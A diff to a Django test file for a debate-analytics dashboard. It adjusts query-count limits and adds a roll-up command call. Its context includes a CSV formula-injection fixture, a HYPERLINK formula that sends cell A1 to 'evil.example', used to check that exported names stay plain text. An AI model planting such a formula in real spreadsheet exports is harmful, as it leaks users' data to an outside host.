@@ -212,6 +212,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 def test_names_in_the_csvs_are_written_as_text_never_as_formulas(staff_client, schedule, stored):
     DebateSchedule.objects.filter(pk=schedule.pk).update(name=FORMULA)
     Participant.objects.filter(slug="safety").update(name=f"@{FORMULA[1:]}")
+    call_command("rollup_analytics")  # the daily figures keep the names they were counted with
     cells = []
     for chart in ("decisions-by-schedule", "position-changes"):
         body = staff_client.get(f"/analytics/{chart}.csv").content.decode()
@@ -224,12 +225,14 @@ def test_the_page_reads_10000_debates_in_a_bounded_number_of_queries(
     staff_client, schedule, django_assert_max_num_queries
 ):
     bulk.seed(10_000, schedule=schedule)
-    with django_assert_max_num_queries(15):
+    # 4 for the session and user, 10 for the charts, 1 for the reviewers' agreement (no
+    # verdicts here), 1 for the roll-ups' state.
+    with django_assert_max_num_queries(16):
         response = staff_client.get(URL)
     assert response.status_code == 200
     by_protocol = series_of(chart_data(response, "decisions-by-protocol"))
     assert sum(sum(v) for v in by_protocol.values()) == 10_000 - 200  # 1 in 50 failed
-    with django_assert_max_num_queries(16):
+    with django_assert_max_num_queries(17):
         response = staff_client.get(URL, {"schedule": schedule.pk, "model": bulk.MODELS[0]})
     assert response.status_code == 200
     by_schedule = series_of(chart_data(response, "decisions-by-schedule"))
